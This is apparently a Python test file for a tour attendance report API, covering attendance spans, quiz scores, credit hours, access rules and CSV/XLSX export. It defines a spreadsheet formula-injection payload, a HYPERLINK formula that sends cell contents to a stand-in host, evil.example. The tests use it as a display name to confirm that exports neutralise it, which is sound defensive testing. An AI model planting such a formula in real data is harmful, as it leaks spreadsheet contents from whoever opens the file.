"""A tour's attendance: every span, minutes present, quiz score and credit per person, for
the tour's guide and admins, as JSON, CSV (safe from formula injection) and XLSX."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

from openpyxl import load_workbook
from sqlalchemy import func, select

from server.attendance import safe_text
from server.bootstrap import ensure_user
from server.db.models import LedgerEntry, ParticipationRecord, User
from server.keys import SESSIONS
from tests.server.conftest import PASSWORD, World
from tests.server.test_tour_changes import _tour

BEIJING = timezone(timedelta(hours=8))
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"看这里")'


async def _login(world: World, username: str) -> dict[str, str]:
    client = world.client
    login = await client.post("/api/auth/login", json={"username": username,
                                                       "password": PASSWORD})
    token = (await (await client.post("/api/auth/tokens", json={},
                                      cookies=login.cookies)).json())["token"]
    client.session.cookie_jar.clear()
    return {"Authorization": f"Bearer {token}"}


async def _party_day(world: World) -> tuple[dict, datetime, int]:
    """A tour that ran: the member came twice, the admin dropped in unregistered, and a
    registered member (whose name looks like a formula) never came."""
    client, sessions = world.client, world.client.server.app[SESSIONS]
    start = (datetime.now(BEIJING) + timedelta(days=1)).replace(microsecond=0)
    tour = await _tour(world, starts_at=start.isoformat())
    absent = await ensure_user(sessions, "absent", PASSWORD, "member", world.branch_a,
                               display_name=EVIL)
    for headers in (world.auth("member"), await _login(world, "absent")):
        assert (await client.post(f"/api/tours/{tour['id']}/registration",
                                  headers=headers)).status == 201
    t0 = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=2)
    member, guide, admin = world.users["member"], world.users["guide"], world.users["admin"]
    facts = [(guide, "tour_started", 0, {}), (guide, "joined", 0, {}),
             (member, "joined", 1, {}), (admin, "joined", 2, {}), (admin, "left", 7, {}),
             (member, "left", 11, {}),
             (guide, "quiz_started", 12, {"scene": "s1", "item": "q1"}),
             (guide, "quiz_started", 13, {"scene": "s1", "item": "q2"}),
             (member, "joined", 21, {}),
             (member, "quiz_answered", 22, {"scene": "s1", "item": "q1", "correct": True}),
             (member, "quiz_answered", 23, {"scene": "s1", "item": "q2", "correct": False}),
             (member, "quiz_answered", 23, {"scene": "s1", "item": "q9", "correct": True}),
             (guide, "tour_ended", 41, {})]
    async with sessions.begin() as db:
        for number, (user, kind, minute, detail) in enumerate(facts):
            db.add(ParticipationRecord(
                id=f"t{tour['id']}-{number}", user_id=user, tour_id=tour["id"], kind=kind,
                at=t0 + timedelta(minutes=minute), detail={"tour": tour["id"], "seat": 0,
                                                            **detail}))
        seq = (await db.scalar(select(func.max(LedgerEntry.seq)))) or 0
        for offset, (key, hours, subject) in enumerate((
                (f"tour/{member}/{tour['id']}", "1.5", {"kind": "tour", "tour": tour["id"]}),
                (f"exhibit/{member}/founding/2026", "0.5", {"kind": "exhibit",
                                                            "tour": tour["id"]}),
                (f"tour/{member}/999", "4", {"kind": "tour", "tour": 999}))):
            db.add(LedgerEntry(seq=seq + offset + 1, award_key=key, user_id=member, year=2026,
                               hours=hours, exhibit_id="founding", subject=subject, basis={},
                               at=t0.isoformat(), prev_hash="0" * 64, hash=f"{offset}" * 64))
    return tour, t0, absent


async def test_attendance_lists_everyone_with_spans_minutes_quiz_and_credit(world: World
                                                                           ) -> None:
    tour, t0, absent = await _party_day(world)
    answer = await world.client.get(f"/api/tours/{tour['id']}/attendance",
                                    headers=world.auth("guide"))
    assert answer.status == 200, await answer.text()
    report = await answer.json()
    assert report["tour"] == tour["id"]
    assert report["started_at"] == t0.astimezone(BEIJING).isoformat()
    assert report["ended_at"] == (t0 + timedelta(minutes=41)).astimezone(BEIJING).isoformat()
    people = {p["user"]: p for p in report["people"]}
    assert world.users["guide"] not in people
    assert set(people) == {world.users["member"], world.users["admin"], absent}
    member = people[world.users["member"]]
    at = lambda minute: (t0 + timedelta(minutes=minute)).astimezone(BEIJING).isoformat()  # noqa: E731
    assert member["spans"] == [{"joined": at(1), "left": at(11)},
                               {"joined": at(21), "left": at(41)}]
    assert member["minutes"] == 30.0 and member["registered"] is True
    assert (member["quiz_right"], member["quiz_asked"]) == (1, 2)
    assert member["credit_hours"] == 2.0
    assert member["branch_id"] == world.branch_a and member["branch"] == "第一党支部"
    dropped_in = people[world.users["admin"]]
    assert dropped_in["registered"] is False and dropped_in["minutes"] == 5.0
    nobody = people[absent]
    assert nobody == {**nobody, "spans": [], "minutes": 0.0, "quiz_right": 0, "quiz_asked": 2,
                      "credit_hours": 0.0, "registered": True, "name": EVIL}


async def test_csv_and_xlsx_never_carry_a_formula(world: World) -> None:
    tour, _, absent = await _party_day(world)
    path = f"/api/tours/{tour['id']}/attendance"
    as_csv = await world.client.get(path + "?format=csv", headers=world.auth("admin"))
    assert as_csv.status == 200 and as_csv.content_type == "text/csv"
    text = (await as_csv.read()).decode("utf-8-sig")
    rows = {row["user"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows[str(absent)]["name"] == "'" + EVIL
    assert rows[str(world.users["member"])]["minutes"] == "30.0"
    assert rows[str(world.users["member"])]["credit_hours"] == "2.0"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    as_xlsx = await world.client.get(path + "?format=xlsx", headers=world.auth("admin"))
    assert as_xlsx.status == 200 and "spreadsheetml" in as_xlsx.content_type
    sheet = load_workbook(io.BytesIO(await as_xlsx.read())).active
    header = [c.value for c in sheet[1]]
    by_user = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    name = by_user[absent][header.index("name")]
    assert name.value == "'" + EVIL and name.data_type == "s"
    assert by_user[world.users["member"]][header.index("minutes")].value == 30.0
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    bad = await world.client.get(path + "?format=pdf", headers=world.auth("admin"))
    assert bad.status == 400 and "format" in (await bad.json())["error"]


async def test_only_the_tours_guide_and_admins_see_attendance(world: World) -> None:
    tour = await _tour(world)
    path = f"/api/tours/{tour['id']}/attendance"
    await ensure_user(world.client.server.app[SESSIONS], "guide-a2", PASSWORD, "guide",
                      world.branch_a)
    other_guide = await _login(world, "guide-a2")
    assert (await world.client.get(path)).status == 401
    for headers in (world.auth("member"), world.auth("editor"), other_guide):
        answer = await world.client.get(path, headers=headers)
        assert answer.status == 403 and (await answer.json())["error"]
    assert (await world.client.get("/api/tours/424242/attendance",
                                   headers=world.auth("admin"))).status == 404
    empty = await (await world.client.get(path, headers=world.auth("admin"))).json()
    assert empty["people"] == [] and empty["started_at"] is None


async def test_a_deleted_members_row_keeps_their_attendance_not_their_name(world: World
                                                                           ) -> None:
    tour, _, _ = await _party_day(world)
    assert (await world.client.delete(f"/api/users/{world.users['member']}",
                                      headers=world.auth("admin"))).status == 200
    report = await (await world.client.get(f"/api/tours/{tour['id']}/attendance",
                                           headers=world.auth("admin"))).json()
    (row,) = [p for p in report["people"] if p["user"] == world.users["member"]]
    async with world.client.server.app[SESSIONS]() as db:
        user = await db.get(User, world.users["member"])
    assert user is not None and row["name"] == user.display_name and row["minutes"] == 30.0


def test_text_that_looks_like_a_formula_is_quoted() -> None:
    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_text(risky).startswith("'")
    for plain in ("王小明", "a=b", "1-2", ""):
        assert safe_text(plain) == plain
